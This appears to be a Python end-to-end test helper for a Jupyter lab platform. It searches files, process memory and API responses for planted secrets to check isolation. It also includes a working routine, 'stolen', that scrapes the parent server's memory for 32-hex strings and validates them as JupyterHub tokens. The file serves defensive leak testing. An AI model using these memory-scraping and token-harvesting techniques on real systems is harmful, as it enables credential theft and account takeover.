"""Hunting inside a lab, from a notebook: a program there looks for byte patterns in all that the member can read.

The program is sent to the lab's own kernel. A pattern goes there in two halves that never stand side by side, or the
hunt would find its own question in the kernel's memory.
"""

from __future__ import annotations

import json
from collections.abc import Iterable, Mapping
from dataclasses import dataclass

from tests.e2e.jupyter_wire import Kernel

PROGRAM = r"""
import json, os, stat
HALVES = {name: (bytes.fromhex(first), bytes.fromhex(second)) for name, (first, second) in QUESTIONS.items()}
STEP, SEEN = 1 << 22, {"files": 0, "bytes": 0, "processes": 0, "memory": 0, "answers": 0}

def looked(window, where, found):
    for name, (first, second) in HALVES.items():
        at = window.find(first)
        while at >= 0:
            if window[at + len(first):at + len(first) + len(second)] == second:
                found.add(f"{where}: {name}")
                break
            at = window.find(first, at + 1)

def read_file(path, found, kind="files"):
    try:
        if not stat.S_ISREG(os.stat(path).st_mode) and kind == "files":
            return
        with open(path, "rb", buffering=0) as file:
            rest = b""
            while piece := file.read(STEP):
                looked(rest + piece, path, found)
                rest, SEEN["bytes"] = piece[-128:], SEEN["bytes"] + len(piece)
        SEEN[kind] += 1
    except OSError:
        pass

def read_tree(top, found):
    for folder, folders, files in os.walk(top):
        for name in files + folders:
            looked(os.fsencode(name), f"name of {folder}/{name}", found)
        for name in files:
            read_file(os.path.join(folder, name), found)

def read_processes(found):
    for pid in filter(str.isdigit, os.listdir("/proc")):
        for part in ("environ", "cmdline"):
            read_file(f"/proc/{pid}/{part}", found, "processes")
        read_memory(pid, found)

def read_memory(pid, found):
    try:
        with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", buffering=0) as memory:
            for line in maps:
                span, modes = line.split()[:2]
                low, high = (int(end, 16) for end in span.split("-"))
                if "w" not in modes or line.rstrip().endswith("[vvar]"):
                    continue
                rest = b""
                for at in range(low, high, STEP):
                    try:
                        memory.seek(at)
                        piece = memory.read(min(STEP, high - at))
                    except (OSError, ValueError, OverflowError):
                        break
                    looked(rest + piece, f"memory of {pid}", found)
                    rest, SEEN["memory"] = piece[-128:], SEEN["memory"] + len(piece)
    except OSError:
        pass

def read_api(found):
    import http.client, socket
    class Link(http.client.HTTPConnection):
        def connect(self):
            self.sock = socket.socket(socket.AF_UNIX)
            self.sock.connect(os.environ["DARKROOM_API_SOCKET"])
    headers = {"Authorization": "Bearer " + os.environ["DARKROOM_TOKEN"], "Host": HOST}
    for path in PATHS:
        link = Link("portal", timeout=120)
        link.request("GET", path, headers=headers)
        answer = link.getresponse()
        body = answer.read()
        SEEN["answers"] += answer.status == 200
        looked(body + str(answer.headers).encode(), f"answer to {path}", found)
        link.close()

def hunt():
    found = set()
    for name, value in os.environ.items():
        looked(f"{name}={value}".encode(), f"variable {name}", found)
    for top in PLACES:
        read_tree(top, found)
    read_processes(found)
    read_api(found)
    return found

print(json.dumps({"found": sorted(hunt()), "seen": SEEN}))
"""
STOLEN = r"""
import os, re, urllib.error, urllib.request
def good(token):
    headers = {"Authorization": "token " + token}
    asked = urllib.request.Request(os.environ["JUPYTERHUB_API_URL"] + "/user", headers=headers)
    try:
        with urllib.request.urlopen(asked, timeout=120) as answer:
            return b'"kind": "user"' in answer.read()
    except urllib.error.HTTPError:
        return False
def candidates(pid):
    with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", buffering=0) as memory:
        for line in maps:
            span, modes = line.split()[:2]
            low, high = (int(end, 16) for end in span.split("-"))
            if "w" in modes:
                try:
                    memory.seek(low)
                    yield from re.findall(rb"(?<![0-9a-f])[0-9a-f]{32}(?![0-9a-f])", memory.read(high - low))
                except (OSError, OverflowError):
                    continue
def stolen():
    tried = set()
    for each in candidates(os.getppid()):
        if each not in tried and len(tried) < 500:
            tried.add(each)
            if good(each.decode()):
                return each.decode()
    return ""
"""
"""Defines `stolen`, which finds a lab's token of the Hub in its server's memory: at T1 the kernel has the same user id.

So the token counts as the member's, and as that of anything that runs in the member's kernel.
"""

PLACES = ("/home", "/tmp", "/links", "/in", "/out", "/dev/shm", "/etc", "/mirror", "/run", "/var")
"""What a lab has beside its image, whose every byte was hashed before there was a member; home is given by name."""


@dataclass(frozen=True, slots=True)
class Found:
    """Where patterns were found, and how much was looked at."""

    places: tuple[str, ...]
    seen: Mapping[str, int]

    def kinds(self) -> set[str]:
        """Return the sorts of places."""
        return {
            place.split()[0].split("/")[1] if place.startswith("/") else place.split()[0]
            for place in self.places
        }


def hunt(kernel: Kernel, patterns: Mapping[str, bytes], paths: Iterable[str], host: str) -> Found:
    """Look for patterns in all that a member's kernel can read, and in what these paths of the portal answer."""
    halves = {
        name: (whole[: len(whole) // 2].hex(), whole[len(whole) // 2 :].hex())
        for name, whole in patterns.items()
    }
    home = kernel.run("import os; print(os.environ['HOME'])").text.strip()
    told = {"QUESTIONS": halves, "PLACES": [home, *PLACES], "PATHS": list(paths), "HOST": host}
    before = "".join(f"{name} = {value!r}\n" for name, value in told.items())
    answered = kernel.run(before + PROGRAM, patience_s=180)
    if answered.status != "ok":
        raise AssertionError(answered.error)
    plain = json.loads(answered.text)
    return Found(tuple(plain["found"]), plain["seen"])
